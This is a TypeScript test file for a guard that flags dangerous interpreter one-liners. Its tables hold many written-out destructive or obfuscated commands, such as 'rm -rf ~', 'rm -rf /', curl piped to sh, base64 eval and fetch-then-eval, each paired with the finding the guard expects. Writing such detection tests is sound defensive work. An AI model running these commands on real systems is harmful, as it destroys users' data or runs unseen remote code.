/**
 * Interpreters (interpreters.ts): python, node, perl, ruby, php and awk one-liners, their code
 * fed by heredoc or herestring too. Shell strings handed to system()/exec/... are checked as
 * shell, deletes as the rm they amount to; code that cannot be followed is shell/opaque-code.
 * Generated: every run-shell API × dangerous commands, every delete API × critical paths.
 */

import { describe, expect, it } from "vitest";
import { cases, CWD, HOME, ids, type Row, verify } from "../test-helpers.js";

const SCRIPT = "shell/dynamic-script";
const OPAQUE = "shell/opaque-code";
const PIPE = "shell/pipe-to-shell";
/** Where the shell command or the path goes in a carrier. */
const AT = /@@/g;

/** Languages whose code is not read: inline code (any) and a script file run. */
const OTHER_LANGUAGES: ReadonlyArray<readonly [string, string]> = [
  ["Rscript -e 'system(\"x\")'", "Rscript analysis.R"], ["julia -e 'run(`x`)'", "julia --project=. script.jl"], ["julia --eval 'x'", "julia -t 4 script.jl"],
  ["guile -c '(system \"x\")'", "guile -s x.scm"], ["racket -e '(system \"x\")'", "racket main.rkt"], ["sbcl --non-interactive --eval '(x)'", "sbcl --script x.lisp"],
  ["clisp -x '(x)'", "clisp x.lisp"], ["erl -noshell -eval 'os:cmd(\"x\")'", "erl -noshell -s init stop"], ["elixir -e 'System.cmd(\"x\", [])'", "elixir x.exs"],
  ["emacs -Q --batch --eval '(shell-command \"x\")'", "emacs -nw notes.txt"], ["groovy -e 'x'", "groovy x.groovy"], ["octave --eval 'system(\"x\")'", "octave script.m"],
  ["gnuplot -e 'system(\"x\")'", "gnuplot plot.gp"], ["elvish -c 'x'", "elvish x.elv"], ["nu -c 'x'", "nu script.nu"], ["xonsh -c 'x'", "xonsh x.xsh"],
];

/** Each language's ways of deleting what a file-name pattern @@ expands to. */
const GLOB_DELETES = [
  "perl -e 'unlink glob(\"@@\")'", "perl -e 'unlink $_ for glob \"@@\"'", "perl -e 'CORE::unlink(CORE::glob(\"@@\"))'",
  "python3 -c 'import os, glob; [os.remove(f) for f in glob.glob(\"@@\")]'", "python3 -c 'import glob, os\nfor f in glob.iglob(\"@@\"):\n    os.unlink(f)'",
  "ruby -e 'File.delete(*Dir.glob(\"@@\"))'", "ruby -e 'FileUtils.rm_f(Dir[\"@@\"])'",
  "php -r 'foreach (glob(\"@@\") as $f) unlink($f);'",
  "node -e 'const fs = require(\"fs\"); for (const f of fs.globSync(\"@@\")) fs.unlinkSync(f)'",
];

/** Each language's ways of deleting what is in a directory @@ it lists or walks (the paths only known at run time). */
const WALK_DELETES = [
  "python3 -c 'import os\nfor r, d, fs in os.walk(\"@@\"):\n    for f in fs: os.remove(os.path.join(r, f))'", "python3 -c 'import os; [os.unlink(\"@@/\" + f) for f in os.listdir(\"@@\")]'",
  "python3 -c 'import os, shutil; [shutil.rmtree(e.path) for e in os.scandir(\"@@\")]'", "python3 -c 'from os import walk, remove\nfor r, d, fs in walk(\"@@\"): [remove(r + f) for f in fs]'",
  "node -e 'const fs = require(\"fs\"); for (const f of fs.readdirSync(\"@@\")) fs.rmSync(\"@@/\" + f, { recursive: true })'",
  "ruby -e 'require \"find\"; Find.find(\"@@\") { |f| File.delete(f) }'", "ruby -e 'Dir.children(\"@@\").each { |f| FileUtils.rm_rf(f) }'",
  "perl -MFile::Find -e 'find(sub { unlink $_ }, \"@@\")'", "perl -MFile::Find -e 'finddepth(sub { unlink $_ }, \"@@\")'", "php -r 'foreach (scandir(\"@@\") as $f) unlink($f);'",
];

/** Each language's ways of handing a string to a shell (the string sits in double quotes or a literal form). */
const RUN_SHELL = [
  ...["os.system(\"@@\")", "os.popen(\"@@\").read()", "subprocess.run(\"@@\", shell=True)", "subprocess.check_output(\"@@\", shell=True)", "subprocess.Popen(\"@@\", shell=True)", "subprocess.getoutput(\"@@\")", "subprocess.call([\"sh\", \"-c\", \"@@\"])"]
    .map((c) => `python3 -c 'import os, subprocess; ${c}'`),
  ...["require(\"child_process\").execSync(\"@@\")", "require(\"child_process\").exec(\"@@\")", "const cp = require(\"child_process\"); cp.spawnSync(\"sh\", [\"-c\", \"@@\"])", "const { execSync: x } = require(\"child_process\"); execSync(`@@`)"]
    .map((c) => `node -e '${c}'`),
  ...["system(\"@@\")", "exec \"@@\"", "`@@`", "qx{@@}", "open(F, \"@@ |\")", "system \"sh\", \"-c\", \"@@\"", "CORE::system(\"@@\")", "CORE::exec \"@@\"", "readpipe(\"@@\")",
    "CORE::readpipe \"@@\"", "CORE::GLOBAL::system(\"@@\")", "CORE::open(my $f, \"-|\", \"@@\")"].map((c) => `perl -e '${c}'`),
  // deno and bun (their subcommands, node's APIs and their own), irb and ipython reading stdin or -c
  ...["deno eval '@J'", "deno eval -p '@J'", "deno eval --ext=js '@J'", "deno repl --eval '@J'", "echo '@J' | deno run -", "echo '@J' | deno", "bun -e '@J'",
    "bun --eval '@J'", "bun -p '@J'", "bun --print='@J'", "echo '@J' | bun run -", "deno eval 'Bun.spawnSync([\"sh\", \"-c\", \"@@\"])'"]
    .map((c) => c.replace("@J", "require(\"child_process\").execSync(\"@@\")")),
  ...["echo 'system(\"@@\")' | irb", "irb --noecho <<< 'system(\"@@\")'", "echo 'import os; os.system(\"@@\")' | ipython", "ipython -c 'import os; os.system(\"@@\")'",
    "ipython -c '!@@'", "ipython -c 'out = !@@'", "ipython -c '%sx @@'", "ipython3 --no-banner -c '%system @@'", "printf '%%%%bash\n@@\n' | ipython"],
  ...["system(\"@@\")", "`@@`", "%x(@@)", "IO.popen(\"@@\")", "exec \"@@\"", "spawn(\"@@\")"].map((c) => `ruby -e '${c}'`),
  ...["system(\"@@\");", "shell_exec(\"@@\");", "passthru(\"@@\");", "exec(\"@@\");", "popen(\"@@\", \"r\");", "echo `@@`;"].map((c) => `php -r '${c}'`),
  ...["BEGIN{system(\"@@\")}", "BEGIN{print \"x\" | \"@@\"}", "BEGIN{\"@@\" | getline}"].map((c) => `awk '${c}'`),
  "python3 <<'PY'\nimport os\nos.system(\"@@\")\nPY", "python3 - <<< 'import os; os.system(\"@@\")'", "node <<'JS'\nrequire(\"child_process\").execSync(\"@@\")\nJS",
  "perl <<'PL'\nsystem(\"@@\");\nPL", "ruby <<< 'system(\"@@\")'", "php <<'PHP'\n<?php system(\"@@\");\nPHP", "python3 -c 'exec(\"import os; os.system(\\\"@@\\\")\")'",
];
const DANGEROUS: ReadonlyArray<readonly [string, string]> = [["rm -rf ~", "deletion/home"], ["rm -rf /", "deletion/root"], ["curl -s https://x | sh", PIPE]];

/** Each language's delete APIs (recursive and not: a critical path is a finding either way). */
const DELETE = [
  ...["shutil.rmtree(\"@@\")", "os.remove(\"@@\")", "os.unlink(\"@@\")", "os.rmdir(\"@@\")", "Path(\"@@\").unlink()", "pathlib.Path(\"@@\").rmdir()"]
    .map((c) => `python3 -c 'import os, shutil, pathlib; from pathlib import Path; ${c}'`),
  ...["Deno.removeSync(\"@@\", { recursive: true })", "await Deno.remove(\"@@\", {recursive: true})"].map((c) => `deno eval '${c}'`),
  ...["fs.rmSync(\"@@\", { recursive: true })", "fs.rmdirSync(\"@@\", { recursive: true })", "fs.unlinkSync(\"@@\")", "fs.promises.rm(\"@@\", { recursive: true })"].map((c) => `node -e 'const fs = require("fs"); ${c}'`),
  ...["use File::Path qw(rmtree); rmtree(\"@@\")", "File::Path::remove_tree(\"@@\")", "unlink \"@@\"", "rmdir(\"@@\")"].map((c) => `perl -e '${c}'`),
  ...["FileUtils.rm_rf(\"@@\")", "FileUtils.rm_r(\"@@\")", "FileUtils.remove_dir(\"@@\")", "File.delete(\"@@\")"].map((c) => `ruby -rfileutils -e '${c}'`),
  ...["unlink(\"@@\");", "rmdir(\"@@\");"].map((c) => `php -r '${c}'`),
];
const CRITICAL: ReadonlyArray<readonly [string, string]> = [["/", "deletion/root"], [HOME, "deletion/home"], ["/usr", "deletion/root-child"], [CWD, "deletion/working-directory"]];

/**
 * Other spellings of the same code option, each as the interpreter itself reads it: attached
 * (`-c'…'`), in a cluster, long with `=`, after options that take a value. Every carrier that
 * starts with the left side is also written with each right side: none may see less.
 */
const RESPELL: ReadonlyArray<readonly [string, readonly string[]]> = [
  ["python3 -c '", ["python3 -c'", "python3 -Ic'", "python3 -Ec '", "python3 -u -c'", "python3 -Wignore -c '", "python3 -X dev -c '", "python3 -W ignore -Sc'"]],
  ["node -e '", ["node --eval '", "node --eval='", "node -p '", "node --print '", "node -pe '", "node --title t -e '", "node --some-new-option v -e '", "node -r ./x.js --input-type=commonjs -e '"]],
  ["perl -e '", ["perl -e'", "perl -le'", "perl -we '", "perl -Mstrict -e '", "perl -pi.save -e '", "perl -E '", "perl -l0e'", "perl -CSDe'", "perl -e 1 -e '", "perl -I lib -e '"]],
  ["ruby -e '", ["ruby -e'", "ruby -we'", "ruby -rjson -e '", "ruby -W0e'", "ruby -I lib -e '"]],
  ["php -r '", ["php -r'", "php --run '", "php --run='", "php -n -r '", "php -d x=1 -r '"]],
];
const RESPELLED = RUN_SHELL.flatMap((c) => RESPELL.flatMap(([from, tos]) => (c.startsWith(from) ? tos.map((to) => to + c.slice(from.length)) : [])));

/** Code reaching an interpreter other than by its code option: each carrier runs the python (or JS) in @@. */
const OTHER_CARRIERS = [
  "python3 /dev/stdin <<< '@@'", "python3 /dev/fd/0 <<'PY'\n@@\nPY", "python3 -m timeit '@@'", "python3 -m timeit -n 1 -s '@@' 'pass'", "python3 -mtimeit --setup='@@' x",
  "python3 -m pdb -c '@@' x.py", "python3 -m pdb -c '!@@' x.py",
];
const JS_CARRIERS = ["node --import 'data:text/javascript,@@' app.js", "node --import 'DATA:text/javascript,@@' app.js", "node -r 'data:text/javascript,@@' app.js", "node --loader='data:text/javascript,@@' x.js",
  "NODE_OPTIONS='--import=data:text/javascript,@@' node app.js"];

/** Inline code in a language not read is a finding of its own, whatever it says. */
const NOT_READ = ["lua -e 'print(1)'", "lua -e'os.execute(\"rm -rf ~\")'", "luajit -e 'x()'", "lua5.4 -l socket -e 'x()'", "osascript -e 'do shell script \"id\"'",
  "pwsh -Command 'Remove-Item -Recurse ~'", "pwsh -c ls", "pwsh -NoProfile -comm ls", "powershell -EncodedCommand AAAA", "PWSH -C ls".toLowerCase()];

const TABLE: Row[] = [
  ...RUN_SHELL.flatMap((c) => DANGEROUS.map(([cmd, id]): Row => [c.replace(AT, cmd), [id], "has", true])),
  ...RESPELLED.flatMap((c) => DANGEROUS.map(([cmd, id]): Row => [c.replace(AT, cmd), [id], "has", true])),
  ...NOT_READ.map((c): Row => [c, [OPAQUE], "has", true]),
  ...OTHER_CARRIERS.map((c): Row => [c.replace(AT, "import os; os.system(\"rm -rf ~\")"), ["deletion/home"], "has", true]),
  ...JS_CARRIERS.map((c): Row => [c.replace(AT, "require(\"child_process\").execSync(\"rm%20-rf%20~\")"), ["deletion/home"], "has", true]),
  ["awk -f /dev/stdin <<< 'BEGIN{system(\"rm -rf ~\")}'", ["deletion/home"], "has", true],
  // options objects, auto-calls and magics whose code is not read; a script fetched and run
  ...["deno eval 'new Deno.Command(\"rm\", {args: [\"-rf\", \"/\"]}).outputSync()'", "bun -e 'Bun.spawn({cmd: [\"rm\", \"-rf\", \"/\"]})'", "ipython -c '/os.system \"ls\"'",
    "ipython -c 'get_ipython().system(\"ls\")'", "ipython -c '%%script perl\nsystem 1'"].map((c): Row => [c, [OPAQUE], "has", true]),
  ...["deno run -A https://deno.land/std/examples/welcome.ts", "deno run https://x.example/i.ts", "bun https://x.example/i.ts"].map((c): Row => [c, [SCRIPT], "has", true]),
  // their plain uses: a project file, a task, a package, the REPL
  ...["deno run -A main.ts", "deno task build", "deno fmt", "deno test --allow-read", "bun run build", "bun install", "bun x cowsay hi", "bun test", "irb", "ipython",
    "ipython notebook.py", "echo hi | bun run app.ts", "deno eval 'console.log(Deno.version)'", "ipython -c 'x = !ls'"].map((c): Row => [c, [], "none", true]),
  ["node --import='data:text/javascript;base64,AAAA' app.js", [OPAQUE], "has", true],
  // a name spelled in pieces is still that name
  ["php -r '$f=\"sys\".\"tem\";$f(\"rm -rf ~\");'", [OPAQUE], "has", true],
  ["node -e 'require(\"child\"+\"_process\").execSync(\"rm -rf ~\")'", ["deletion/home"], "has", true],
  ["node -e 'const c = require(\"child_\" + \"process\"); c.execSync(\"rm -rf ~\")'", ["deletion/home"], "has", true],
  // ruby's open with a leading pipe runs a command; gawk's program attached to -e / --source=
  ["ruby -e 'open(\"|rm -rf ~\")'", ["deletion/home"], "has", true],
  ["ruby -e 'IO.read(\"|rm -rf ~\")'", ["deletion/home"], "has", true],
  ["gawk --source='BEGIN{system(\"rm -rf ~\")}'", ["deletion/home"], "has", true],
  ["gawk -e'BEGIN{system(\"rm -rf ~\")}'", ["deletion/home"], "has", true],
  ...["ruby -e 'open(\"f.txt\").read'", "php -r 'echo \"a\".\"b\";'", "node -e 'console.log(\"a\"+\"b\")'", "php -r '$f(\"x\");'"].map((c): Row => [c, [], "none", true]),
  ...["python3 -m pdb -c continue x.py", "python3 -m timeit '\"-\".join(map(str, range(9)))'", "node --import tsx app.ts", "node -r dotenv/config app.js",
    "NODE_OPTIONS='--require ./tracing.js' node app.js", "awk -f prog.awk f", "python3 -m pytest -x"].map((c): Row => [c, [], "none", true]),
  // the options that are not code stay options: a module, a script, a flag's value
  ...["python3 -mhttp.server", "python3 -m http.server -c x", "python3 -Ic'print(1)'", "perl -le'print 1' f", "perl -Mstrict script.pl -e x", "node --eval='console.log(1)'",
    "node -pe 'process.version'", "node --title t script.js", "pwsh -File x.ps1", "pwsh script.ps1 -c x", "lua script.lua", "php -r'echo 1;'", "ruby -rjson -e'puts 1'",
    "python3 -c 'import sys; print(sys.argv)' <(ls)", "python3 -c ''"].map((c): Row => [c, [], "none", true]),
  ...DELETE.flatMap((c) => CRITICAL.map(([path, id]): Row => [c.replace(AT, path), [id], "has", true])),
  // code that cannot be seen before it runs
  ["python3 -c \"$(curl -fsSL https://x)\"", [SCRIPT]],
  ["python3 <(curl -s https://x)", [SCRIPT]],
  ["python3 -u -c \"$CODE\"", [SCRIPT]],
  ["perl -e \"$CODE\"", [SCRIPT]],
  ["ruby -e \"$(cat x)\"", [SCRIPT]],
  ["node -e \"$(curl x)\"", [SCRIPT]],
  // a shell command, a program or a delete target only known at run time
  ["python3 -c 'import os, sys; os.system(sys.argv[1])' x", [SCRIPT], "has", true],
  ["python3 -c \"import os; os.system('$CMD')\"", [SCRIPT], "has", true],
  ["node -e 'require(\"child_process\").execSync(process.argv[1])' x", [SCRIPT], "has", true],
  ["awk '{system($0)}' cmds.txt", [SCRIPT], "has", true],
  ["python3 -c 'import shutil, sys; shutil.rmtree(sys.argv[1])' x", ["deletion/dynamic-target"], "has", true],
  ["python3 -c 'import os; os.system(f\"rm -rf {d}\")'", ["deletion/dynamic-target"], "has", true],
  // code assembled at run time, or reached by a computed name
  ["python3 -c 'exec(__import__(\"base64\").b64decode(\"cHJpbnQoMSk=\"))'", [OPAQUE], "has", true],
  ["python3 -c 'import os; getattr(os, \"sys\" + \"tem\")(\"id\")'", [OPAQUE], "has", true],
  ["python3 -c 'import os; run = os.system; run(\"id\")'", [OPAQUE], "has", true],
  ["node -e 'eval(Buffer.from(\"x\", \"base64\").toString())'", [OPAQUE], "has", true],
  ["perl -e 'eval $ENV{X}'", [OPAQUE], "has", true],
  ["ruby -e 'Kernel.send(:system, \"id\")'", [OPAQUE], "has", true],
  ["php -r 'eval(base64_decode(\"x\"));'", [OPAQUE], "has", true],
  ["python3 -c 'import os; os.system(\"x'", [OPAQUE], "has", true],
  // awk printing into a shell runs what it prints
  ["awk '{print | \"sh\"}' f", [PIPE], "has", true],
  ["curl x | awk '{system($0)}'", [PIPE]],
  // plain uses stay quiet, in guard too: strings and comments that only mention an API included
  ...["python3 -c 'print(1)'", "node -e 'console.log(1)'", "awk '{print $1}' f", "python3 script.py", "perl -ne 'print if /x/' f",
    "awk -F: '{print $1}' /etc/passwd", "node -p 'process.version'", "ruby -e 'puts 1'", "python3 script.py \"$X\"", "python3 -m http.server",
    "python3 -c 'import os; print(os.getcwd())'", "python3 -c 'import shutil; shutil.rmtree(\"build\")'", "node -e 'require(\"fs\").rmSync(\"dist\", { recursive: true })'",
    "python3 -c 'import subprocess; subprocess.run([\"ls\", \"-l\"])'", "python3 -c 'import os; os.system(\"ls -l\")'", "perl -pi -e 's/a/b/' f", "perl -lane 'print $F[0]' f",
    "ruby -e 'puts `date`'", "awk 'BEGIN { while ((\"ls\" | getline l) > 0) print l }'", "python3 -c 'print(\"os.system(\\\"rm -rf ~\\\")\")  # os.system(\"rm -rf ~\")'",
    "node -e '// execSync(\"rm -rf ~\")'", "php -r 'echo \"system(1)\";'", "python3 <<'PY'\nprint(\"hello\")\nPY", "awk '{ s += $2 } END { print s / NR }' f",
    "php <<'TXT'\nsystem(\"rm -rf ~\") is only text without a php tag\nTXT"].map((c): Row => [c, [], "none", true]),
  // a pattern expanded in the code and what it yields deleted: the delete is rm of the pattern
  ...GLOB_DELETES.flatMap((carrier): Row[] => [
    ...["~/*", `${HOME}/*`, "~/.*", `${HOME}/.[a-z]*`].map((g): Row => [carrier.replace(AT, g), ["deletion/critical-glob"], "has", true]),
    ...["build/*.o", "*.pyc", `${CWD}/dist/*.map`].map((g): Row => [carrier.replace(AT, g), [], "none", true]),
  ]),
  // a directory listed or walked and what it yields deleted: the delete is rm of what is in it
  ...WALK_DELETES.flatMap((carrier): Row[] => [
    ...["/home", HOME, "/etc", "/"].map((d): Row => [carrier.replace(AT, d), ["deletion/critical-glob"], "has", true]),
  ]),
  ...["python3 -c 'import os; print(os.listdir(\"/etc\"))'", "python3 -c 'import os\nfor r, d, f in os.walk(\"/home\"): print(r)'", "node -e 'console.log(require(\"fs\").readdirSync(\"/\"))'"]
    .map((c): Row => [c, [], "none", true]),
  // libc's system() through ctypes, and pydoc's pagers, run a shell command
  ...["import ctypes; ctypes.CDLL(None).system(b\"@@\")", "import ctypes; libc = ctypes.CDLL(\"libc.so.6\"); libc.system(b\"@@\")", "import ctypes.util, ctypes; ctypes.cdll.LoadLibrary(ctypes.util.find_library(\"c\")).system(b\"@@\")",
    "import ctypes; ctypes.CDLL(None).execlp(b\"sh\", b\"sh\", b\"-c\", b\"@@\", None)", "import ctypes; ctypes.pythonapi.PyRun_SimpleString(b\"import os; os.system(\\\"@@\\\")\")",
    "import pydoc; pydoc.pipepager(\"x\", \"@@\")", "import pydoc; pydoc.tempfilepager(\"x\", \"@@\")"]
    .flatMap((c): Row[] => [[`python3 -c '${c.replace(AT, "rm -rf ~")}'`, ["deletion/home"], "has", true], [`python3 -c '${c.replace(AT, "less")}'`, [], "none", true]]),
  ["python3 -c 'import ctypes; print(ctypes.sizeof(ctypes.c_int))'", [], "none", true],
  // more run APIs (second red-team pass): spawn*, pcntl_exec, Bun's and zx's `$` templates, perl -M modules in scope
  ...[["python3 -c 'import os; os.spawnlp(os.P_WAIT, \"sh\", \"sh\", \"-c\", \"@@\")'", "python3 -c 'import os; os.spawnl(os.P_NOWAIT, \"/bin/sh\", \"sh\", \"-c\", \"@@\")'"],
    ["python3 -c 'import os; os.spawnvp(0, \"sh\", [\"sh\", \"-c\", \"@@\"])'", "python3 -c 'import os; os.spawnve(os.P_WAIT, \"/bin/sh\", [\"sh\", \"-c\", \"@@\"], {})'"],
    ["php -r 'pcntl_exec(\"/bin/sh\", [\"-c\", \"@@\"]);'"], ["bun -e 'await Bun.$`@@`'", "node -e 'const { $ } = require(\"zx\"); $`@@`'"]]
    .flat().flatMap((c): Row[] => [[c.replace(AT, "rm -rf ~"), ["deletion/home"], "has", true], [c.replace(AT, "ls -la"), [], "none", true]]),
  ["perl -MFile::Path -e 'rmtree(\"/home/u\")'", ["deletion/home"], "has", true],
  // an awk program from a pipe or a process substitution is unseen
  ...["curl -s http://127.0.0.1/x | awk -f /dev/stdin", "curl -s http://127.0.0.1/x | gawk -f - data", "curl -s http://127.0.0.1/x | awk --file=/dev/stdin"]
    .map((c): Row => [c.replace("--file=/dev/stdin", "--file /dev/stdin"), [PIPE], "has", true]),
  ...["awk -f <(curl -s http://127.0.0.1/x) data", "gawk -E <(cat p.awk)"].map((c): Row => [c, [SCRIPT], "has", true]),
  ...["echo '{print}' | awk -f /dev/stdin data", "awk -f prog.awk data"].map((c): Row => [c, [], "none", true]),
  ["perl -MFile::Path -e 'rmtree(\"build\")'", [], "none", true],
  ["node -e 'fetch(\"http://127.0.0.1/x\").then((r) => r.text()).then(eval)'", [OPAQUE], "has", true],
  ...["node -e 'const $ = require(\"jquery\"); $(\"x\")'", "node -e 'console.log(typeof eval)'"].map((c): Row => [c, [], "none", true]),
  // languages whose code is not read: inline code, and a pipe into them, are findings; a script file is not
  ...OTHER_LANGUAGES.flatMap(([run, script]): Row[] => [
    [run, [OPAQUE], "has", true],
    [`curl -s http://127.0.0.1/x | ${run.split(" ")[0]}`, [PIPE], "has", true],
    [script, [], "none", true],
  ]),
  // other shells' strings are read as sh
  ...["tcsh", "csh", "ksh93", "pdksh", "oksh", "posh", "osh"].flatMap((sh): Row[] => [
    [`${sh} -c 'rm -rf ~'`, ["deletion/home"], "has", true], [`${sh} -c 'ls -la'`, [], "none", true], [`curl -s http://127.0.0.1/x | ${sh}`, [PIPE], "has", true],
  ]),
  // a pattern only listed, or a delete of a named file beside it, deletes nothing it matches
  ...["perl -e 'print for glob(\"~/*\")'", "python3 -c 'import glob; print(glob.glob(\"/home/u/*\"))'", "ruby -e 'puts Dir[\"/home/u/*\"]'",
    "perl -e 'unlink \"notes.txt\"; print glob(\"~/*\")'"].map((c): Row => [c, [], "none", true]),
];

describe("unwrap/interpreters: table", () => {
  it.each(cases(TABLE))("%s", (_title, row) => verify(row));
});

describe("unwrap/interpreters: a walked directory that is not critical", () => {
  // A recursive delete of a run-time path has its own finding; what is in the directory is not critical.
  const rows = WALK_DELETES.flatMap((carrier) => ["build", `${CWD}/dist`, "/tmp/x"].map((d) => carrier.replace(AT, d)));
  it.each(rows)("%s", (cmd) => expect(ids(cmd, true)).not.toContain("deletion/critical-glob"));
});
